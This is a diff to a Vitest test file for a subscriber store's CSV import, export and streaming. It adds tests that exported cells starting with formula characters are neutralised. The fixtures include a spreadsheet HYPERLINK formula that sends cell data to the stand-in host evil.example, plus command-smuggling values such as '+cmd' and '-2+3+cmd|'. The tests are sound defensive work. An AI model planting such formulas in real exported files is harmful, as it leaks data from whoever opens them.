@@ -1,5 +1,8 @@
 import { describe, expect, it } from 'vitest';
-import { exportSubscribersCsv, importSubscribersCsv, normaliseEmail, type Subscriber } from '../../src/store/index.js';
+import { Readable } from 'node:stream';
+import { text } from 'node:stream/consumers';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { exportSubscribersCsv, importSubscribersCsv, normaliseEmail, readSubscribersCsv, type Subscriber } from '../../src/store/index.js';
 
 describe('normaliseEmail', () => {
   it('accepts ordinary addresses and lower-cases only the domain', () => {
@@ -35,9 +38,9 @@ describe('normaliseEmail', () => {
 });
 
 describe('importSubscribersCsv', () => {
-  it('reads a header, BOM, CRLF, quoted fields with commas, quotes and line breaks', () => {
+  it('reads a header, BOM, CRLF, quoted fields with commas, quotes and line breaks', async () => {
     const text = '\uFEFFName,E-Mail,plan\r\n"Doe, John",john@example.org,free\r\n"Say ""hi""",hi@example.org,x\r\n"Two\r\nlines",two@example.org,y\r\n\r\n,bare@example.org,z';
-    const { rows, problems } = importSubscribersCsv(text);
+    const { rows, problems } = await importSubscribersCsv(text);
     expect(problems).toEqual([]);
     expect(rows).toEqual([
       { email: 'john@example.org', name: 'Doe, John' },
@@ -47,9 +50,9 @@ describe('importSubscribersCsv', () => {
     ]);
   });
 
-  it('reports bad rows with their line and skips them, keeps the good ones', () => {
+  it('reports bad rows with their line and skips them, keeps the good ones', async () => {
     const text = 'email,name\nok@example.org,Ok\nbroken,Bad\n,Empty\n"multi\nline@example.org",X\nOK@example.org,Dup\nlast@example.org,Last\n';
-    const { rows, problems } = importSubscribersCsv(text, 'list.csv');
+    const { rows, problems } = await importSubscribersCsv(text, 'list.csv');
     expect(rows.map((r) => r.email)).toEqual(['ok@example.org', 'last@example.org']);
     expect(problems.map((p) => [p.file, p.line, p.severity])).toEqual([
       ['list.csv', 3, 'error'],
@@ -60,31 +63,160 @@ describe('importSubscribersCsv', () => {
     expect(problems[0]?.message).toContain('"broken"');
   });
 
-  it('needs an email column', () => {
-    expect(importSubscribersCsv('name,address\nA,a@example.org\n').problems).toMatchObject([{ line: 1, severity: 'error', message: expect.stringContaining('"email"') }]);
-    expect(importSubscribersCsv('').problems).toMatchObject([{ severity: 'error' }]);
+  it('needs an email column', async () => {
+    expect((await importSubscribersCsv('name,address\nA,a@example.org\n')).problems).toMatchObject([{ line: 1, severity: 'error', message: expect.stringContaining('"email"') }]);
+    expect((await importSubscribersCsv('')).problems).toMatchObject([{ severity: 'error' }]);
   });
 
-  it('reports an unterminated quote', () => {
-    const { rows, problems } = importSubscribersCsv('email\na@example.org\n"b@example.org\n');
+  it('reports an unterminated quote', async () => {
+    const { rows, problems } = await importSubscribersCsv('email\na@example.org\n"b@example.org\n');
     expect(rows.map((r) => r.email)).toEqual(['a@example.org']);
     expect(problems).toMatchObject([{ line: 3, message: expect.stringContaining('never closed') }]);
   });
 });
 
 describe('exportSubscribersCsv', () => {
-  it('writes RFC 4180 CSV that imports back to the same addresses and names', () => {
+  it('writes RFC 4180 CSV that imports back to the same addresses and names', async () => {
     const subscribers: Subscriber[] = [
       { id: 1, email: 'a@example.org', name: 'Doe, "J"', status: 'active', createdAt: new Date('2026-01-01T00:00:00Z'), unsubscribedAt: null },
       { id: 2, email: 'b@example.org', name: null, status: 'unsubscribed', createdAt: new Date('2026-01-02T00:00:00Z'), unsubscribedAt: new Date('2026-02-01T00:00:00Z') },
       { id: 3, email: 'c@example.org', name: '山田 太郎', status: 'active', createdAt: new Date('2026-01-03T00:00:00Z'), unsubscribedAt: null },
     ];
-    const csv = exportSubscribersCsv(subscribers);
+    const csv = await text(exportSubscribersCsv(subscribers));
     expect(csv.split('\r\n')[0]).toBe('email,name,status,created_at,unsubscribed_at');
     expect(csv).toContain('a@example.org,"Doe, ""J""",active,2026-01-01T00:00:00.000Z,\r\n');
     expect(csv).toContain('b@example.org,,unsubscribed,2026-01-02T00:00:00.000Z,2026-02-01T00:00:00.000Z\r\n');
-    const back = importSubscribersCsv(csv);
+    const back = await importSubscribersCsv(csv);
     expect(back.problems).toEqual([]);
     expect(back.rows).toEqual(subscribers.map((s) => ({ email: s.email, name: s.name })));
+  });
+});
+
+/** The cells of a CSV as an independent reader sees them (csv-parse's plain defaults, not our reader). */
+const cells = (csv: string): string[][] => parseCsv(csv, { bom: true }) as string[][];
+
+const subscriber = (id: number, email: string, name: string | null): Subscriber => ({
+  id,
+  email,
+  name,
+  status: 'active',
+  createdAt: new Date('2026-01-01T00:00:00Z'),
+  unsubscribedAt: null,
+});
+
+// OWASP "CSV Injection": a cell starting with one of these is run as a formula by spreadsheets;
+// the full-width ones are folded into them by Apple Numbers.
+const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
+
+describe('exportSubscribersCsv: formula injection', () => {
+  it.each(FORMULA_STARTS)('puts a quote mark before a name starting with %j, and import takes it off', async (start) => {
+    const name = `${start}HYPERLINK("https://evil.example/?"&A1,"click")`;
+    const csv = await text(exportSubscribersCsv([subscriber(1, 'a@example.org', name)]));
+    const [header, row] = cells(csv);
+    expect(header).toEqual(['email', 'name', 'status', 'created_at', 'unsubscribed_at']);
+    expect(row?.[1]?.[0]).toBe("'");
+    expect(row?.[1]).toBe(`'${name}`);
+    // our reader gives back the name exactly (a leading tab or CR is the store's to clean: normaliseName)
+    const back = await importSubscribersCsv(csv);
+    expect(back.problems).toEqual([]);
+    expect(back.rows).toEqual([{ email: 'a@example.org', name }]);
+  });
+
+  it.each(['=1+1@example.org', '+cmd@example.org', "-2+3+cmd|'@example.org", '\uFF1Dx@example.org'])(
+    'puts a quote mark before an address starting with a formula character: %j',
+    async (email) => {
+      const csv = await text(exportSubscribersCsv([subscriber(1, email, 'Ann')]));
+      const [, row] = cells(csv);
+      expect(row?.[0]).toBe(`'${email}`);
+      expect((await importSubscribersCsv(csv)).rows).toEqual([{ email: normaliseEmail(email), name: 'Ann' }]);
+    },
+  );
+
+  it('leaves every other value as it is, and no cell of the export starts with a formula character', async () => {
+    const list = [
+      subscriber(1, 'plain@example.org', "O'Brien"),
+      subscriber(2, "o'hara@example.org", "'quoted'"),
+      subscriber(3, 'x@example.org', 'a=b+c-d@e'),
+      subscriber(4, 'y@example.org', null),
+      subscriber(5, 'z@example.org', '山田 太郎'),
+    ];
+    const csv = await text(exportSubscribersCsv(list));
+    const rows = cells(csv).slice(1);
+    expect(rows.map((r) => [r[0], r[1]])).toEqual(list.map((s) => [s.email, s.name ?? '']));
+    for (const row of rows) for (const cell of row) expect(FORMULA_STARTS).not.toContain(cell[0]);
+  });
+
+  it('a value that already starts with quote marks before a formula character survives the round trip', async () => {
+    const names = ["'=already", "''+two", "'-", "'''@three", "'", "''"];
+    const list = names.map((name, i) => subscriber(i + 1, `n${i}@example.org`, name));
+    const csv = await text(exportSubscribersCsv([...list, subscriber(99, "'=q@example.org", null)]));
+    const rows = cells(csv).slice(1);
+    expect(rows.map((r) => r[1])).toEqual(["''=already", "'''+two", "''-", "''''@three", "'", "''", '']);
+    expect(rows.at(-1)?.[0]).toBe("''=q@example.org");
+    const back = await importSubscribersCsv(csv);
+    expect(back.problems).toEqual([]);
+    expect(back.rows).toEqual([...names.map((name, i) => ({ email: `n${i}@example.org`, name })), { email: "'=q@example.org", name: null }]);
+  });
+
+  it('import takes off one quote mark only before a formula character, as export puts it', async () => {
+    const { rows, problems } = await importSubscribersCsv("email,name\n'=a@example.org,'=SUM(A1)\nb@example.org,'plain\n'c@example.org,''-x\n");
+    expect(problems).toEqual([]);
+    expect(rows).toEqual([
+      { email: '=a@example.org', name: '=SUM(A1)' },
+      { email: 'b@example.org', name: "'plain" },
+      { email: "'c@example.org", name: "'-x" },
+    ]);
+  });
+});
+
+describe('readSubscribersCsv: streaming', () => {
+  it('gives the same rows and lines when the file arrives one character at a time', async () => {
+    // a BOM and multi-byte characters split between chunks too
+    const csv = '\uFEFFemail,name\r\n"a@example.org","Two\r\nlines"\r\nbad,X\r\n"b@example.org","x\ny\rz"\nc@example.org\rnot an address\n\n"d@example.org",山田 太郎';
+    const whole: [string, number][] = [];
+    const wholeProblems = await readSubscribersCsv(csv, 'l.csv', (row, line) => whole.push([row.email, line]));
+    const byChar: [string, number][] = [];
+    const names: (string | null)[] = [];
+    const byCharProblems = await readSubscribersCsv(Readable.from([...Buffer.from(csv)].map((b) => Buffer.from([b]))), 'l.csv', (row, line) => {
+      byChar.push([row.email, line]);
+      names.push(row.name);
+    });
+    expect(names).toEqual(['Two\r\nlines', 'x\ny\rz', null, '山田 太郎']);
+    expect(whole).toEqual([
+      ['a@example.org', 2],
+      ['b@example.org', 5],
+      ['c@example.org', 8],
+      ['d@example.org', 11],
+    ]);
+    // a CRLF inside a quoted field is one line (csv-parse's own count says two)
+    expect(wholeProblems.map((p) => [p.line, p.field])).toEqual([
+      [4, 'email'],
+      [9, 'email'],
+    ]);
+    expect(byChar).toEqual(whole);
+    expect(byCharProblems).toEqual(wholeProblems);
+  });
+
+  it('reports an over-long name under "name" with its line, and keeps the other rows', async () => {
+    const { rows, problems } = await importSubscribersCsv(`email,name\na@example.org,A\nb@example.org,${'x'.repeat(101)}\nc@example.org,C\n`);
+    expect(rows.map((r) => r.email)).toEqual(['a@example.org', 'c@example.org']);
+    expect(problems).toMatchObject([{ line: 3, field: 'name', severity: 'error', message: expect.stringContaining('at most 100') }]);
+  });
+
+  it('a row longer than 64 KiB (a quote never closed in a big file) stops there, reported; the rows before are kept', async () => {
+    const rows = Array.from({ length: 50 }, (_, i) => `r${i}@example.org,"R ${i}"`).join('\n');
+    const { rows: read, problems } = await importSubscribersCsv(`email,name\n${rows}\n"never@example.org,Unclosed\n${'z@example.org,Z\n'.repeat(10_000)}`);
+    expect(read).toHaveLength(50);
+    expect(problems).toMatchObject([{ line: 52, severity: 'error', message: expect.stringMatching(/longer than 64 KiB.*rest of the file was skipped/) }]);
+  });
+
+  it('throws what the row handler throws (a database error), after the rows before it', async () => {
+    const seen: string[] = [];
+    const failing = readSubscribersCsv('email\na@example.org\nb@example.org\nc@example.org\n', 'l.csv', (row) => {
+      if (row.email.startsWith('b')) throw new Error('disk I/O error');
+      seen.push(row.email);
+    });
+    await expect(failing).rejects.toThrow('disk I/O error');
+    expect(seen).toEqual(['a@example.org']);
   });
 });
